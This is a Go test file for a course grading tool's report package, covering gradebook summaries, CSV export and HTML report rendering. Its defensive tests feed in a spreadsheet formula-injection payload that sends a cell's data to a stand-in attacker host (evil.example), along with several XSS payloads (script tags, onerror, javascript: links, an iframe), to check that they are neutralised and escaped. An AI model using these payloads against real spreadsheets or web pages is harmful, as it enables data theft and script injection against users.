package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"parlab/grader/exercise"
	"parlab/grader/verdict"
)

func TestSummarize(t *testing.T) {
	t.Parallel()
	spec, _ := exercise.Lookup("histogram")
	res := func(score int, failing verdict.CheckName, msg string) *verdict.Result {
		r := &verdict.Result{Exercise: "histogram", Score: score, MaxScore: 11}
		for _, c := range spec.Checks() {
			st := verdict.Pass
			if c == failing {
				st = verdict.Fail
			}
			r.Checks = append(r.Checks, verdict.Check{Name: c, Status: st, Message: msg})
		}
		return r
	}
	book := Gradebook{Exercises: []exercise.Spec{spec}, Students: []Student{
		{Name: "a", Results: map[string]*verdict.Result{"histogram": res(11, "", "")}},
		{Name: "b", Results: map[string]*verdict.Result{"histogram": res(10, verdict.RaceFree, "data race at histogram.go:15")}},
		{Name: "c", Results: map[string]*verdict.Result{"histogram": res(10, verdict.RaceFree, "data race at histogram.go:22")}},
		{Name: "d"},
	}}
	sum := Summarize(book)
	e := sum.Exercises[0]
	// The mean and median are over the 3 graded, d is missing (issue
	// 29: "graded 2, mean 2.6/11" averaged over five).
	if e.Graded != 3 || e.Missing != 1 || e.MeanScore != 31.0/3 || e.Median != 10 {
		t.Errorf("graded %d missing %d mean %v median %v; want 3, 1, 10.33, 10", e.Graded, e.Missing, e.MeanScore, e.Median)
	}
	if r := e.PassRate[verdict.RaceFree]; r != 1.0/3 {
		t.Errorf("race-free pass rate %v, want 1/3", r)
	}
	// Counted as one, shown as a real example, numbers and all.
	if len(e.CommonFailures) != 1 || e.CommonFailures[0].Count != 2 || e.CommonFailures[0].Message != "data race at histogram.go:15" {
		t.Errorf("common failures %+v: the two races differ only in line numbers and should count as one, shown as the first", e.CommonFailures)
	}
}

// TestGradesCSVNeutralisesFormulas: a student folder named
// =HYPERLINK(...) became a live formula in grades.csv. Every cell that a
// spreadsheet would run (OWASP's list: = + - @ tab CR LF, and NUL) starts
// with a single quote; the rest of the text is kept, and commas and
// quotes stay inside their cell.
func TestGradesCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	spec, _ := exercise.Lookup("histogram")
	names := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "\n=1", "\x00=1", `plain, "quoted"`, "alice"}
	book := Gradebook{Exercises: []exercise.Spec{spec}}
	for _, n := range names {
		book.Students = append(book.Students, Student{Name: n, Note: n})
	}
	rows, err := csv.NewReader(bytes.NewReader(GradesCSV(book))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(names)+1 {
		t.Fatalf("%d rows, want %d", len(rows), len(names)+1)
	}
	for i, n := range names {
		row := rows[i+1]
		want := n
		if strings.ContainsRune("=+-@\t\r\n\x00", rune(n[0])) {
			want = "'" + n
		}
		want = strings.ReplaceAll(want, "\r", "")                          // encoding/csv reads \r\n and \r inside a cell as \n
		for _, col := range []int{0, len(row) - 1 - len(book.Exercises)} { // the name and the note
			if got := strings.ReplaceAll(row[col], "\r", ""); got != want && got != strings.ReplaceAll(want, "\n", "") {
				t.Errorf("cell %q, want %q", row[col], want)
			}
		}
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r\n\x00", rune(cell[0])) {
				t.Errorf("the cell %q would be a formula", cell)
			}
		}
	}
}

// TestHTMLEscapesNames: names, notes and failure messages in report.html
// are text, never markup or a script link.
func TestHTMLEscapesNames(t *testing.T) {
	t.Parallel()
	spec, _ := exercise.Lookup("histogram")
	res := &verdict.Result{Exercise: "histogram", MaxScore: 11, Checks: []verdict.Check{{Name: verdict.Builds, Status: verdict.Fail, Message: `<img src=x onerror=alert(2)>`}}}
	book := Gradebook{Exercises: []exercise.Spec{spec}, Students: []Student{{
		Name: `<script>alert(1)</script>" onmouseover="alert(3)`, File: "javascript:alert(4)",
		Note: "</td><iframe src=//evil>", Results: map[string]*verdict.Result{"histogram": res}}}}
	var b bytes.Buffer
	if err := HTML(&b, book); err != nil {
		t.Fatal(err)
	}
	page := b.String()
	for _, bad := range []string{"<script>alert", "<img", "<iframe", `" onmouseover="`, `href="javascript:`} {
		if strings.Contains(page, bad) {
			t.Errorf("report.html holds %q unescaped", bad)
		}
	}
	if !strings.Contains(page, "&lt;script&gt;alert(1)&lt;/script&gt;") {
		t.Error("the student's name is not shown as text")
	}
}

// TestHTMLShowsEachStudentsFailures: a student's failing checks are on
// the page with their messages and hints, folded under the name, not
// only in a tooltip; the speedup chart names each student's bar (issue
// 29).
func TestHTMLShowsEachStudentsFailures(t *testing.T) {
	spec, _ := exercise.Lookup("histogram")
	res := &verdict.Result{Exercise: "histogram", Score: 8, MaxScore: 11,
		Speedup: &verdict.Speedup{Speedup: 1.4, Required: 1.2},
		Checks: []verdict.Check{
			{Name: verdict.Correct, Status: verdict.Pass},
			{Name: verdict.RaceFree, Status: verdict.Fail, Message: "data race: goroutine 7 writes at histogram/histogram.go:25 (Parallel.func1)", Hint: "Give each goroutine its own data."},
			{Name: verdict.Faster, Status: verdict.Fail, Message: "1.08x faster than the serial reference; 1.49x was required"},
		}}
	book := Gradebook{Exercises: []exercise.Spec{spec}, Students: []Student{
		{Name: "alice", Results: map[string]*verdict.Result{"histogram": res}, Total: 8, Max: 11},
		{Name: "bob", Total: 0, Max: 11},
	}}
	var b bytes.Buffer
	if err := HTML(&b, book); err != nil {
		t.Fatal(err)
	}
	page := b.String()
	for _, want := range []string{
		`<details class="failures"><summary>2 failing</summary>`,
		"<strong>histogram · race-free</strong><pre>data race: goroutine 7 writes at histogram/histogram.go:25 (Parallel.func1)</pre>",
		"hint: Give each goroutine its own data.",
		"1 of 2 (1 without it)",
		">alice</text>", // the speedup bar's name, in the chart's SVG
	} {
		if !strings.Contains(page, want) {
			t.Errorf("the page lacks %q", want)
		}
	}
}
